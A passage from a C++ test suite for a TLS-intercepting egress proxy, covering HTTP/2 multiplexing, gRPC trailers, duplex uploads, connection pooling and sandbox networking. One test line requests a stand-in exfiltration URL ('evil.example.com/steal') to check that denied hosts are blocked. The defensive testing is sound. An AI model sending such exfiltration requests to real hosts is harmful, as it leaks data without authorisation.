      "-w ' code=%{{http_code}} version=%{{http_version}}'",
      kChatBody);
  auto h2 = curl("--http2 " + request);
  ASSERT_EQ(h2.exit_code, 0) << h2.output;
  EXPECT_THAT(h2.output, HasSubstr("code=200"));
  EXPECT_THAT(h2.output, HasSubstr("version=2"));
  EXPECT_THAT(h2.output, HasSubstr("chat.completion"));
  auto requests = mock("api.openai.com").requests();
  ASSERT_EQ(requests.size(), 1u);
  EXPECT_EQ(requests[0].api_key, kOpenAiSecret);
  auto record = recordFor("api.openai.com /v1/chat/completions");
  ASSERT_TRUE(record.has_value());
  EXPECT_EQ(str(*record, telemetry::attr::kNetworkProtocolVersion), "2");
  EXPECT_EQ(num(*record, telemetry::attr::kGenAiUsageInputTokens), 3);
  EXPECT_EQ(str(*record, telemetry::attr::kClrkCredentialPolicy), "default/openai-key");

  auto h1 = curl("--http1.1 " + request);
  ASSERT_EQ(h1.exit_code, 0) << h1.output;
  EXPECT_THAT(h1.output, HasSubstr("version=1.1"));
  std::vector<std::string> versions;
  for (int i = 0; i < 100 && versions.size() < 2; ++i) {
    versions.clear();
    for (const auto& any : records()) {
      if (any.name.find("api.openai.com /v1/chat/completions") != std::string::npos) {
        versions.push_back(str(any, telemetry::attr::kNetworkProtocolVersion));
      }
    }
    if (versions.size() < 2) std::this_thread::sleep_for(std::chrono::milliseconds(50));
  }
  EXPECT_THAT(versions, ::testing::ElementsAre("2", "1.1"));

  // A denied host answers over h2 too.
  auto denied = curl("--http2 https://evil.example.com/steal");
  EXPECT_THAT(denied.output, Not(HasSubstr("HTTP 200")));
}

TEST_F(EgressTest, Http2MultiplexedStreamsFromNode) {
  std::string clients = testing::sourcePath("tests/clients");
  constexpr int kChats = 8;
  auto result = testing::runCommand(fmt::format(
      "cd {} && PROXY=127.0.0.1:{} CA_FILE={} N={} BIG_HEADER=20000 node h2_multiplex.mjs", clients,
      open_proxy_->explicitPort(), open_ca_file_, kChats));
  ASSERT_EQ(result.exit_code, 0) << result.output;
  json out = json::parse(result.output.substr(result.output.find('{')));
  EXPECT_EQ(out["alpn"], "h2");
  ASSERT_EQ(out["chats"].size(), static_cast<size_t>(kChats));
  for (const auto& status : out["chats"]) EXPECT_EQ(status, 200);
  EXPECT_EQ(out["distinct_ids"], kChats);
  EXPECT_GT(out["sse_events"].get<int>(), 2);  // chunks, usage chunk, [DONE]
  EXPECT_EQ(out["upload_status"], 404);        // the mock has no /v1/files; it counts the bytes
  // CONNECT cannot be carried: a JSON 400 on that stream, the connection goes on.
  EXPECT_EQ(out["connect_status"], 400);
  EXPECT_THAT(out["connect_body"].get<std::string>(), HasSubstr("CONNECT over HTTP/2"));
  // Over max_header_bytes (16 KiB here): 431 as for HTTP/1.1, and the next stream still works.
  EXPECT_EQ(out["big_header_status"], 431);
  EXPECT_EQ(out["after_status"], 200);

  // The upload (2 MiB) arrived whole, streamed through flow control.
  size_t chats_seen = 0;
  size_t upload_bytes = 0;
  for (const auto& request : mock("api.openai.com").requests()) {
    if (request.target == "/v1/chat/completions") ++chats_seen;
    if (request.target == "/v1/files") upload_bytes = request.body_bytes;
  }
  EXPECT_EQ(chats_seen, static_cast<size_t>(kChats + 1));
  EXPECT_EQ(upload_bytes, 2u * 1024 * 1024);

  int h2_records = 0;
  bool rejected_connect = false;
  for (const auto& record : records()) {
    if (str(record, telemetry::attr::kNetworkProtocolVersion) == "2") ++h2_records;
    if (record.name.rfind("CONNECT ", 0) == 0 &&
        str(record, telemetry::attr::kClrkDecision) == "reject") {
      rejected_connect = true;
    }
  }
  // chats + SSE + upload + CONNECT + oversized + after (+ the cancelled stream when it got far).
  EXPECT_GE(h2_records, kChats + 5);
  EXPECT_TRUE(rejected_connect);
  auto stats = open_proxy_->stats();
  EXPECT_EQ(stats.connections_active, 0u);
}

TEST_F(EgressTest, Http2ProtocolErrorsEndTheConnectionNotTheProxy) {
  // Raw HTTP/2 from Python's ssl module: the preface, then a frame that breaks the protocol
  // (a DATA frame on stream 0), then a bad preface on a second connection. Each gets a GOAWAY or
  // a close, and the proxy keeps serving.
  std::string script =
      fmt::format(R"PY(
import socket, ssl, struct, sys
def connect():
    s = socket.create_connection(("127.0.0.1", {port}), timeout=5)
    s.sendall(b"CONNECT api.openai.com:443 HTTP/1.1\r\nHost: api.openai.com:443\r\n\r\n")
    head = b""
    while b"\r\n\r\n" not in head:
        head += s.recv(1)
    ctx = ssl.create_default_context(cafile="{ca}")
    ctx.set_alpn_protocols(["h2"])
    t = ctx.wrap_socket(s, server_hostname="api.openai.com")
    assert t.selected_alpn_protocol() == "h2", t.selected_alpn_protocol()
    return t
def frames_until_close(t):
    data = b""
    try:
        while True:
            chunk = t.recv(65536)
            if not chunk: break
            data += chunk
    except (ssl.SSLError, OSError, socket.timeout):
        pass
    types = []
    while len(data) >= 9:
        length = int.from_bytes(data[0:3], "big")
        types.append(data[3])
        data = data[9 + length:]
    return types
t = connect()
settings = struct.pack(">I", 0)[1:] + bytes([4, 0]) + struct.pack(">I", 0)
data_on_zero = struct.pack(">I", 4)[1:] + bytes([0, 0]) + struct.pack(">I", 0) + b"oops"
t.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + settings + data_on_zero)
first = frames_until_close(t)
t = connect()
t.sendall(b"GET / HTTP/1.1\r\nHost: x\r\n\r\n")
second = frames_until_close(t)
print("goaway" if 7 in first else "no-goaway:%s" % first, "closed", len(second))
)PY",
                  fmt::arg("port", open_proxy_->explicitPort()), fmt::arg("ca", open_ca_file_));
  fs::path file = *dir_ / "h2_bad.py";
  std::ofstream(file) << script;
  auto result = testing::runCommand("python3 " + file.string());
  ASSERT_EQ(result.exit_code, 0) << result.output;
  EXPECT_THAT(result.output, HasSubstr("goaway closed"));
  auto after = curl("--http2 https://api.openai.com/v1/models -H 'Authorization: Bearer x'", true);
  EXPECT_THAT(after.output, HasSubstr("HTTP 200"));
  for (int i = 0; i < 50 && open_proxy_->stats().connections_active > 0; ++i) {
    std::this_thread::sleep_for(std::chrono::milliseconds(20));
  }
  EXPECT_EQ(open_proxy_->stats().connections_active, 0u);
}

// A child process with its stdin and stdout on pipes; closing stdin asks it to exit, and the
// destructor waits for it (SIGKILL after 3 s).
class ChildProcess {
 public:
  explicit ChildProcess(const std::string& command) {
    int in[2], out[2];
    if (pipe(in) != 0 || pipe(out) != 0) return;
    pid_ = fork();
    if (pid_ == 0) {
      dup2(in[0], 0);
      dup2(out[1], 1);
      close(in[1]);
      close(out[0]);
      execl("/bin/sh", "sh", "-c", command.c_str(), static_cast<char*>(nullptr));
      _exit(127);
    }
    close(in[0]);
    close(out[1]);
    stdin_ = in[1];
    stdout_ = out[0];
  }
  ~ChildProcess() {
    if (stdin_ >= 0) close(stdin_);
    if (pid_ > 0) {
      for (int i = 0; i < 60; ++i) {
        if (waitpid(pid_, nullptr, WNOHANG) == pid_) {
          pid_ = -1;
          break;
        }
        std::this_thread::sleep_for(std::chrono::milliseconds(50));
      }
      if (pid_ > 0) {
        kill(pid_, SIGKILL);
        waitpid(pid_, nullptr, 0);
      }
    }
    if (stdout_ >= 0) close(stdout_);
  }
  // The first line the child prints ("" on EOF).
  std::string readLine() {
    std::string line;
    char c;
    while (read(stdout_, &c, 1) == 1 && c != '\n') line += c;
    return line;
  }

 private:
  pid_t pid_ = -1;
  int stdin_ = -1;
  int stdout_ = -1;
};

TEST_F(EgressTest, Http2UpstreamsAreMultiplexed) {
  // An upstream speaking HTTP/2 (Node): the proxy offers h2 by ALPN, keeps one connection per
  // event loop and sends each request as a stream of it, whatever the client speaks.
  auto leaf = egress::tls::mintLeafPem(**upstream_ca_, "h2.example.com");
  ASSERT_TRUE(leaf.ok());
  std::ofstream(*dir_ / "h2-cert.pem") << leaf->cert_pem;
  std::ofstream(*dir_ / "h2-key.pem") << leaf->key_pem;
  ChildProcess upstream(fmt::format("cd {} && KEY_FILE={} CERT_FILE={} exec node h2_upstream.mjs",
                                    testing::sourcePath("tests/clients"),
                                    (*dir_ / "h2-key.pem").string(),
                                    (*dir_ / "h2-cert.pem").string()));
  std::string first = upstream.readLine();
  ASSERT_THAT(first, HasSubstr("port")) << first;
  int port = json::parse(first)["port"];

  egress::ProxyOptions options;
  options.explicit_listen = "127.0.0.1:0";
  options.threads = 1;  // one event loop: one upstream connection
  options.extra_upstream_ca_pem = (*upstream_ca_)->certPem();
  options.upstream_overrides.emplace_back("h2.example.com:443", fmt::format("127.0.0.1:{}", port));
  std::string ca;
  auto proxy = startOpenProxy(options, "h2-proxy-ca.pem", &ca);
  ASSERT_TRUE(proxy);
  auto run = [&](const std::string& args) {
    return testing::runCommand(
        fmt::format("curl -sS --max-time 20 -x http://127.0.0.1:{} "
                    "--cacert {} {}",
                    proxy->explicitPort(), ca, args));
  };

  // HTTP/1.1 and HTTP/2 clients, three requests each, several client connections.
  auto h1 =
      run("--http1.1 -H 'Authorization: Bearer k1' https://h2.example.com/whoami "
          "https://h2.example.com/whoami -w '\\n'");
  auto h2 = run("--http2 https://h2.example.com/whoami -w '\\n'");
  ASSERT_EQ(h1.exit_code, 0) << h1.output;
  ASSERT_EQ(h2.exit_code, 0) << h2.output;
  std::set<int> sessions;
  int answers = 0;
  for (const std::string& output : {h1.output, h2.output}) {
    std::istringstream lines(output);
    for (std::string line; std::getline(lines, line);) {
      if (line.empty()) continue;
      json answer = json::parse(line);
      EXPECT_EQ(answer["httpVersion"], "2.0") << line;
      EXPECT_EQ(answer["path"], "/whoami");
      sessions.insert(answer["session"].get<int>());
      ++answers;
    }
  }
  EXPECT_EQ(answers, 3);
  EXPECT_EQ(sessions.size(), 1u);  // every request rode the same upstream connection
  EXPECT_THAT(h1.output, HasSubstr("\"auth\":\"Bearer k1\""));

  // A 3 MiB upload streams through flow control; SSE arrives event by event.
  fs::path big = *dir_ / "h2-big.bin";
  std::ofstream(big, std::ios::binary) << std::string(3 * 1024 * 1024, 'q');
  auto upload =
      run(fmt::format("--http1.1 --data-binary @{} -H 'Content-Type: "
                      "application/octet-stream' https://h2.example.com/upload",
                      big.string()));
  ASSERT_EQ(upload.exit_code, 0) << upload.output;
  EXPECT_THAT(upload.output, HasSubstr(fmt::format("\"bytes\":{}", 3 * 1024 * 1024)));
  auto sse = run("--http2 -N https://h2.example.com/sse");
  ASSERT_EQ(sse.exit_code, 0) << sse.output;
  EXPECT_THAT(sse.output, HasSubstr("data: {\"n\":3}"));

  // A stream the upstream resets mid-body: that client sees a cut response, the connection
  // and the next request are fine.
  auto reset = run("--http1.1 https://h2.example.com/reset");
  EXPECT_NE(reset.exit_code, 0) << reset.output;
  auto after = run("--http1.1 https://h2.example.com/whoami");
  ASSERT_EQ(after.exit_code, 0) << after.output;
  EXPECT_EQ(json::parse(after.output)["session"], *sessions.begin());

  // A WebSocket to the same server: HTTP/2 has no Upgrade, so the proxy dials it an HTTP/1.1
  // connection and splices the frames both ways after the 101 (the `ws` package on both ends).
  auto socket = testing::runCommand(fmt::format(
      "cd {} && PROXY=127.0.0.1:{} CA_FILE={} URL=wss://h2.example.com/echo node ws_echo.mjs",
      testing::sourcePath("tests/clients"), proxy->explicitPort(), ca));
  ASSERT_EQ(socket.exit_code, 0) << socket.output;
  EXPECT_EQ(json::parse(socket.output)["echoed"], 3) << socket.output;
  auto upgraded = recordFor("GET h2.example.com /echo");
  ASSERT_TRUE(upgraded.has_value());
  EXPECT_EQ(num(*upgraded, "http.response.status_code"), 101);
  EXPECT_GT(num(*upgraded, "clrk.bytes_received"), 200 * 1024);
  proxy->stop();
}

TEST_F(EgressTest, TrailersAndGrpcPassThrough) {
  // gRPC puts its status in HTTP/2 trailers and needs "te: trailers" to reach the server. Real
  // @grpc/grpc-js on both ends (CONNECT, MITM, HTTP/2 both sides); then curl over HTTP/1.1 and
  // HTTP/2 to a Node upstream whose chunked response ends with trailers.
  auto grpc_leaf = egress::tls::mintLeafPem(**upstream_ca_, "grpc.example.com");
  auto h2_leaf = egress::tls::mintLeafPem(**upstream_ca_, "h2.example.com");
  ASSERT_TRUE(grpc_leaf.ok() && h2_leaf.ok());
  std::ofstream(*dir_ / "grpc-cert.pem") << grpc_leaf->cert_pem;
  std::ofstream(*dir_ / "grpc-key.pem") << grpc_leaf->key_pem;
  std::ofstream(*dir_ / "h2t-cert.pem") << h2_leaf->cert_pem;
  std::ofstream(*dir_ / "h2t-key.pem") << h2_leaf->key_pem;
  std::string clients = testing::sourcePath("tests/clients");
  ChildProcess grpc_server(
      fmt::format("cd {} && ROLE=server KEY_FILE={} CERT_FILE={} exec node grpc_echo.mjs", clients,
                  (*dir_ / "grpc-key.pem").string(), (*dir_ / "grpc-cert.pem").string()));
  ChildProcess h2_server(fmt::format("cd {} && KEY_FILE={} CERT_FILE={} exec node h2_upstream.mjs",
                                     clients, (*dir_ / "h2t-key.pem").string(),
                                     (*dir_ / "h2t-cert.pem").string()));
  std::string grpc_first = grpc_server.readLine();
  std::string h2_first = h2_server.readLine();
  ASSERT_THAT(grpc_first, HasSubstr("port")) << grpc_first;
  ASSERT_THAT(h2_first, HasSubstr("port")) << h2_first;

  egress::ProxyOptions options;
  options.explicit_listen = "127.0.0.1:0";
  options.threads = 1;
  options.extra_upstream_ca_pem = (*upstream_ca_)->certPem();
  options.upstream_overrides.emplace_back(
      "grpc.example.com:443",
      fmt::format("127.0.0.1:{}", json::parse(grpc_first)["port"].get<int>()));
  options.upstream_overrides.emplace_back(
      "h2.example.com:443", fmt::format("127.0.0.1:{}", json::parse(h2_first)["port"].get<int>()));
  std::string ca;
  auto proxy = startOpenProxy(options, "trailers-proxy-ca.pem", &ca);
  ASSERT_TRUE(proxy);

  auto grpc = testing::runCommand(fmt::format(
      "cd {} && ROLE=client grpc_proxy=http://127.0.0.1:{} TARGET=grpc.example.com:443 CA_FILE={} "
      "node grpc_echo.mjs",
      clients, proxy->explicitPort(), ca));
  ASSERT_EQ(grpc.exit_code, 0) << grpc.output;
  json answer = json::parse(grpc.output);
  EXPECT_EQ(answer["say"], "hello over grpc");
  EXPECT_EQ(answer["trailer"], "15");    // custom trailing metadata
  EXPECT_EQ(answer["fail"]["code"], 5);  // NOT_FOUND, a trailers-only response
  EXPECT_EQ(answer["fail"]["details"], "no such thing");
  EXPECT_EQ(answer["count"], 5);
  EXPECT_EQ(answer["count_code"], 0);
  EXPECT_EQ(answer["count_then_fail"]["messages"], 2);  // status in trailers after DATA
  EXPECT_EQ(answer["count_then_fail"]["code"], 8);      // RESOURCE_EXHAUSTED
  EXPECT_EQ(answer["count_then_fail"]["details"], "over budget");
  // A bidirectional ping-pong: each message goes only once the reply to the last one came back,
  // so it needs the request body relayed beside the response (it hung with 0 replies before).
  EXPECT_EQ(answer["chat"]["replies"], json::array({"re: ping 1", "re: ping 2", "re: ping 3"}));
  EXPECT_EQ(answer["chat"]["code"], 0);
  // Records carry the OpenTelemetry rpc.* attributes, the status from wherever it came.
  auto record = recordFor("POST grpc.example.com /clrk.test.Echo/Say");
  ASSERT_TRUE(record.has_value());
  EXPECT_EQ(num(*record, "http.response.status_code"), 200);
  EXPECT_EQ(str(*record, "rpc.system"), "grpc");
  EXPECT_EQ(str(*record, "rpc.service"), "clrk.test.Echo");
  EXPECT_EQ(str(*record, "rpc.method"), "Say");
  EXPECT_EQ(num(*record, "rpc.grpc.status_code"), 0);
  auto failed = recordFor("POST grpc.example.com /clrk.test.Echo/Fail");  // trailers-only
  ASSERT_TRUE(failed.has_value());
  EXPECT_EQ(num(*failed, "rpc.grpc.status_code"), 5);
  auto cut = recordFor("POST grpc.example.com /clrk.test.Echo/CountThenFail");  // after DATA
  ASSERT_TRUE(cut.has_value());
  EXPECT_EQ(num(*cut, "rpc.grpc.status_code"), 8);

  // curl shows trailers after the body with -D -. "TE: trailers" from an HTTP/1.1 client reaches
  // the HTTP/2 upstream; other TE values do not.
  auto run = [&](const std::string& args) {
    return testing::runCommand(
        fmt::format("curl -sS --max-time 20 -D - -x http://127.0.0.1:{} --cacert {} {}",
                    proxy->explicitPort(), ca, args));
  };
  auto h1 = run("--http1.1 -H 'TE: trailers' https://h2.example.com/trailers");
  ASSERT_EQ(h1.exit_code, 0) << h1.output;
  EXPECT_THAT(h1.output, HasSubstr("{\"te\":\"trailers\"}x-checksum: abc123\r\ngrpc-status: 0"))
      << h1.output;
  EXPECT_THAT(h1.output, HasSubstr("trailer: x-checksum, grpc-status")) << h1.output;
  auto h1_gzip = run("--http1.1 -H 'TE: gzip' https://h2.example.com/trailers");
  ASSERT_EQ(h1_gzip.exit_code, 0) << h1_gzip.output;
  EXPECT_THAT(h1_gzip.output, HasSubstr("{\"te\":\"\"}x-checksum: abc123")) << h1_gzip.output;
  // RFC 9110 §10.1.4: a sender of TE also lists it in Connection; the TE rule still applies.
  // Fields Connection names are dropped, with spaces or tabs around the tokens.
  auto listed =
      run("--http1.1 -H 'TE: trailers' -H 'Connection: keep-alive,\tTE' "
          "https://h2.example.com/trailers");
  ASSERT_EQ(listed.exit_code, 0) << listed.output;
  EXPECT_THAT(listed.output, HasSubstr("{\"te\":\"trailers\"}")) << listed.output;
  auto hop =
      run("--http1.1 -H 'X-Hop: 1' -H 'Connection: keep-alive,\tX-Hop ' "
          "https://h2.example.com/whoami");
  ASSERT_EQ(hop.exit_code, 0) << hop.output;
  EXPECT_THAT(hop.output, HasSubstr("\"hop\":\"\"")) << hop.output;
  auto kept = run("--http1.1 -H 'X-Hop: 1' https://h2.example.com/whoami");
  EXPECT_THAT(kept.output, HasSubstr("\"hop\":\"1\"")) << kept.output;
  auto h2 = run("--http2 https://h2.example.com/trailers");
  ASSERT_EQ(h2.exit_code, 0) << h2.output;
  EXPECT_THAT(h2.output, HasSubstr("}x-checksum: abc123\r\ngrpc-status: 0")) << h2.output;
  // Still one usable connection per client after the trailers: two in a row.
  auto twice = run("--http1.1 https://h2.example.com/trailers https://h2.example.com/whoami");
  ASSERT_EQ(twice.exit_code, 0) << twice.output;
  EXPECT_THAT(twice.output, HasSubstr("\"path\":\"/whoami\"")) << twice.output;
  proxy->stop();
}

TEST_F(EgressTest, RequestBodiesFlowWhileTheResponseDoes) {
  // Full duplex: the upstream answers each piece of a request body on the response while the
  // client still sends, and the client sends the next piece only after that answer. Over
  // HTTP/1.1 to a plain upstream, HTTP/1.1 and HTTP/2 over TLS (CONNECT, MITM, the upstream
  // speaking HTTP/2). Then upstreams that answer before reading a large upload, uploads that end
  // with trailers, and uploads that rest while the response streams.
  auto leaf = egress::tls::mintLeafPem(**upstream_ca_, "h2.example.com");
  ASSERT_TRUE(leaf.ok());
  std::ofstream(*dir_ / "duplex-cert.pem") << leaf->cert_pem;
  std::ofstream(*dir_ / "duplex-key.pem") << leaf->key_pem;
  std::string clients = testing::sourcePath("tests/clients");
  ChildProcess upstream(fmt::format("cd {} && KEY_FILE={} CERT_FILE={} exec node h2_upstream.mjs",
                                    clients, (*dir_ / "duplex-key.pem").string(),
                                    (*dir_ / "duplex-cert.pem").string()));
  std::string first = upstream.readLine();
  ASSERT_THAT(first, HasSubstr("plain_port")) << first;
  json ports = json::parse(first);

  egress::ProxyOptions options;
  options.explicit_listen = "127.0.0.1:0";
  options.threads = 1;
  options.extra_upstream_ca_pem = (*upstream_ca_)->certPem();
  options.upstream_overrides.emplace_back("h2.example.com:443",
                                          fmt::format("127.0.0.1:{}", ports["port"].get<int>()));
  options.upstream_overrides.emplace_back(
      "plain.example.com:80", fmt::format("127.0.0.1:{}", ports["plain_port"].get<int>()));
  std::string ca;
  auto proxy = startOpenProxy(options, "duplex-proxy-ca.pem", &ca);
  ASSERT_TRUE(proxy);

  struct Case {
    std::string mode, url, protocol;
  };
  for (const Case& c : {Case{"h1", "http://plain.example.com/duplex", "http/1.1"},
                        Case{"h1", "https://h2.example.com/duplex", "http/1.1"},
                        Case{"h2", "https://h2.example.com/duplex", "h2"}}) {
    SCOPED_TRACE(c.mode + " " + c.url);
    auto run = testing::runCommand(
        fmt::format("cd {} && PROXY=127.0.0.1:{} MODE={} URL={} CA_FILE={} node duplex_http.mjs",
                    clients, proxy->explicitPort(), c.mode, c.url, ca));
    ASSERT_EQ(run.exit_code, 0) << run.output;
    json answer = json::parse(run.output);
    EXPECT_EQ(answer["replies"], json::array({"re: ping 1", "re: ping 2", "re: ping 3"}));
    EXPECT_EQ(answer["status"], 200);
    EXPECT_EQ(answer["protocol"], c.protocol);
    auto record =
        recordFor(c.url.find("plain") != std::string::npos ? "POST plain.example.com /duplex"
                                                           : "POST h2.example.com /duplex");
    ASSERT_TRUE(record.has_value());
    EXPECT_EQ(num(*record, "http.response.status_code"), 200);
    EXPECT_EQ(num(*record, "clrk.bytes_sent"), 18);  // "ping 1" "ping 2" "ping 3"
    EXPECT_EQ(num(*record, "clrk.bytes_received"), 30);
  }

  // /whoami answers at once without reading the body. The response reaches the client whole
  // and its upload stops: HTTP/1.1 by "connection: close", HTTP/2 by RST_STREAM NO_ERROR once
  // another MiB was dropped (curl 7.88 reports that reset as error 92 although it got the whole
  // response; the point is that it does not wait out its timeout). The proxy serves on.
  std::string upload = (*dir_ / "upload.bin").string();
  std::ofstream(upload) << std::string(8 * 1024 * 1024, 'u');
  auto curl = [&](const std::string& args) {
    return testing::runCommand(
        fmt::format("curl -sS --max-time 20 -x http://127.0.0.1:{} --cacert {} -H 'content-type: "
                    "application/octet-stream' {} -w ' %{{http_code}}'",
                    proxy->explicitPort(), ca, args));
  };
  auto h1 = curl("--http1.1 --data-binary @" + upload + " https://h2.example.com/whoami");
  EXPECT_EQ(h1.exit_code, 0) << h1.output;
  EXPECT_THAT(h1.output, AllOf(HasSubstr("\"path\":\"/whoami\""), HasSubstr("} 200"))) << h1.output;
  auto h2 = curl("--http2 --data-binary @" + upload + " https://h2.example.com/whoami");
  EXPECT_NE(h2.exit_code, 28) << h2.output;  // 28: timed out
  EXPECT_THAT(h2.output, AllOf(HasSubstr("\"path\":\"/whoami\""), HasSubstr("} 200"))) << h2.output;
  auto plain = curl("--data-binary @" + upload + " http://plain.example.com/whoami");
  EXPECT_EQ(plain.exit_code, 0) << plain.output;
  EXPECT_THAT(plain.output, AllOf(HasSubstr("\"path\":\"/whoami\""), HasSubstr("} 200")))
      << plain.output;
  // A client that keeps sending after its answer came and reads it only then (raw sockets, no
  // Expect: 100-continue): the proxy reads and drops the rest for a while (a lingering close)
  // instead of closing at once, which would reset the connection and lose the unread answer.
  for (const char* url : {"http://plain.example.com/whoami", "https://h2.example.com/whoami"}) {
    SCOPED_TRACE(url);
    auto late = testing::runCommand(
        fmt::format("PROXY=127.0.0.1:{} URL={} CA_FILE={} /usr/bin/python3 {}/early_answer.py",
                    proxy->explicitPort(), url, ca, clients));
    ASSERT_EQ(late.exit_code, 0) << late.output;
    json answer = json::parse(late.output);
    EXPECT_EQ(answer["status"], 200) << late.output;
    EXPECT_THAT(answer["body"].get<std::string>(), HasSubstr("\"path\":\"/whoami\""));
    EXPECT_THAT(answer["head"].get<std::string>(), HasSubstr("Connection: close"));
  }
  // A whole upload still arrives whole, and the proxy still serves.
  for (const char* version : {"--http1.1", "--http2"}) {
    auto whole =
        curl(std::string(version) + " --data-binary @" + upload + " https://h2.example.com/upload");
    EXPECT_EQ(whole.exit_code, 0) << whole.output;
    EXPECT_THAT(whole.output, HasSubstr("{\"bytes\":8388608,")) << whole.output;
  }

  // A chunked upload's trailers reach the upstream as trailers (never merged into the head), for
  // streamed and for buffered (JSON, inspected) bodies, whichever HTTP version either side
  // speaks. A field not allowed in a trailer section is dropped: the agent's own credential
  // (authorization) never reaches the upstream that way.
  struct TrailerCase {
    std::string mode, url, content_type;
    int bytes;
  };
  for (const TrailerCase& c :
       {TrailerCase{"h1", "http://plain.example.com/upload", "application/octet-stream", 6},
        TrailerCase{"h1", "http://plain.example.com/upload", "application/json", 30},
        TrailerCase{"h1", "https://h2.example.com/upload", "application/octet-stream", 6},
        TrailerCase{"h1", "https://h2.example.com/upload", "application/json", 30},
        TrailerCase{"h2", "https://h2.example.com/upload", "application/octet-stream", 6},
        TrailerCase{"h2", "https://h2.example.com/upload", "application/json", 30}}) {
    SCOPED_TRACE(c.mode + " " + c.url + " " + c.content_type);
    auto run = testing::runCommand(
        fmt::format("cd {} && PROXY=127.0.0.1:{} MODE={} URL={} CA_FILE={} CONTENT_TYPE={} "
                    "node trailers_upload.mjs",
                    clients, proxy->explicitPort(), c.mode, c.url, ca, c.content_type));
    ASSERT_EQ(run.exit_code, 0) << run.output;
    json answer = json::parse(run.output);
    EXPECT_EQ(answer["status"], 200) << run.output;
    EXPECT_EQ(answer["answer"]["bytes"], c.bytes) << run.output;
    EXPECT_EQ(answer["answer"]["trailers"], json({{"x-checksum", "sha-256=test"}})) << run.output;
    EXPECT_EQ(answer["answer"]["checksum_header"], "") << run.output;
  }
  proxy->stop();

  // An upload may rest while its response streams. With a 1 s idle timeout, a POST sends one
  // piece, then nothing until its response (eight lines 250 ms apart, 2 s) has ended. Over plain
  // HTTP/1.1 (whose connection times reads apart from writes) and over TLS.
  egress::ProxyOptions short_idle = options;
  short_idle.idle_timeout_ms = 1000;
  std::string resting_ca;
  auto resting = startOpenProxy(short_idle, "resting-proxy-ca.pem", &resting_ca);
  ASSERT_TRUE(resting);
  for (const char* url :
       {"http://plain.example.com/drip?n=8&ms=250", "https://h2.example.com/drip?n=8&ms=250"}) {
    SCOPED_TRACE(url);
    auto run = testing::runCommand(
        fmt::format("cd {} && PROXY=127.0.0.1:{} URL='{}' CA_FILE={} node resting_upload.mjs",
                    clients, resting->explicitPort(), url, resting_ca));
    ASSERT_EQ(run.exit_code, 0) << run.output;
    json answer = json::parse(run.output);
    EXPECT_EQ(answer["status"], 200) << run.output;
    EXPECT_EQ(answer["lines"], 8) << run.output;
  }
  resting->stop();
}

TEST_F(EgressTest, PooledConnectionTheUpstreamClosedIsNotReused) {
  // The upstream closes every connection 50 ms after its answer, without saying so (a short
  // keep-alive timeout). The proxy pools the connection; the next request, 300 ms later, must not
  // be lost on it: the pool probes an idle connection before handing it out and skips a closed
  // one. Bodiless, buffered (JSON) and streamed requests alike each get a fresh connection.
  std::string clients = testing::sourcePath("tests/clients");
  ChildProcess upstream(fmt::format("exec /usr/bin/python3 {}/closing_upstream.py", clients));
  std::string first = upstream.readLine();
  ASSERT_THAT(first, HasSubstr("port")) << first;
  egress::ProxyOptions options;
  options.explicit_listen = "127.0.0.1:0";
  options.threads = 1;
  options.upstream_overrides.emplace_back(
      "closing.example.com:80", fmt::format("127.0.0.1:{}", json::parse(first)["port"].get<int>()));
  auto started = egress::Proxy::start(options, open_, identities_, pipeline_.get());
  ASSERT_TRUE(started.ok()) << started.status().toString();
  auto proxy = std::move(started).value();
  std::string upload = (*dir_ / "closing.bin").string();
  std::ofstream(upload) << std::string(100000, 'c');

  std::set<int> connections;
  for (const std::string& args :
       {std::string("http://closing.example.com/a"), std::string("http://closing.example.com/b"),
        std::string("-H 'content-type: application/json' --data '{\"a\":1}' "
                    "http://closing.example.com/c"),
        std::string("-H 'content-type: application/json' --data '{\"a\":2}' "
                    "http://closing.example.com/d"),
        "-H 'content-type: application/octet-stream' --data-binary @" + upload +
            " http://closing.example.com/e"}) {
    SCOPED_TRACE(args);
    auto run = testing::runCommand(fmt::format("curl -sS --max-time 20 -x http://127.0.0.1:{} {}",
                                               proxy->explicitPort(), args));
    ASSERT_EQ(run.exit_code, 0) << run.output;
    json answer = json::parse(run.output);
    connections.insert(answer["conn"].get<int>());
    std::this_thread::sleep_for(std::chrono::milliseconds(300));
  }
  EXPECT_EQ(connections.size(), 5u);
  EXPECT_EQ(proxy->stats().upstream_failures, 0u);
  proxy->stop();
}

TEST_F(EgressTest, SmallAndChunkedResponsesRelayIntactOnOneConnection) {
  // Bodies that arrive with the head leave in the head's write; chunked ones end with the last
  // piece. Every body must arrive whole, and the client connection must stay usable.
  auto result = curl(
      "-w ' size=%{size_download} status=%{http_code}\\n' -o /dev/null "
      "'https://api.openai.com/__mock/bytes?n=1000&chunk=7' -o /dev/null "
      "'https://api.openai.com/__mock/bytes?n=200000&chunk=4096' -o /dev/null "
      "'https://api.openai.com/__mock/bytes?n=5' -o /dev/null "
      "https://api.openai.com/v1/models -H 'Authorization: Bearer x'",
      true);
  ASSERT_EQ(result.exit_code, 0) << result.output;
  EXPECT_THAT(result.output, HasSubstr("size=1000 status=200"));
  EXPECT_THAT(result.output, HasSubstr("size=200000 status=200"));
  EXPECT_THAT(result.output, HasSubstr("size=5 status=200"));
  // curl keeps one connection to the proxy; the proxy reuses its upstream connection.
  EXPECT_GE(open_proxy_->stats().upstream_connections_reused, 3u);
}

// A network namespace wired like a sandbox (environment.md §1): all TCP redirected to the
// transparent listener, UDP 53 to the DNS server, everything else dropped. Needs root, ip, nft.
class SandboxNet {
 public:
  SandboxNet() {
    int id = getpid() % 200 + 20;
    ns_ = fmt::format("clrkeg{}", getpid());
    host_if_ = fmt::format("veg{}h", id);
    sandbox_if_ = fmt::format("veg{}s", id);
    host_ip_ = fmt::format("10.213.{}.1", id);
    sandbox_ip_ = fmt::format("10.213.{}.2", id);
    table_ = fmt::format("clrkeg{}", getpid());
  }
  ~SandboxNet() { teardown(); }

  // Empty on success, else why the namespace could not be made.
  std::string setUp(uint16_t tcp_port, uint16_t dns_port) {
    if (geteuid() != 0) return "needs root";
    for (const char* tool : {"ip", "nft"}) {
      if (testing::runCommand(fmt::format("command -v {}", tool)).exit_code != 0) {
        return std::string(tool) + " not installed";
      }
    }
    teardown();
    std::vector<std::string> commands = {
        fmt::format("ip netns add {}", ns_),
        fmt::format("ip link add {} type veth peer name {}", host_if_, sandbox_if_),
        fmt::format("ip link set {} netns {}", sandbox_if_, ns_),
        fmt::format("ip addr add {}/30 dev {}", host_ip_, host_if_),
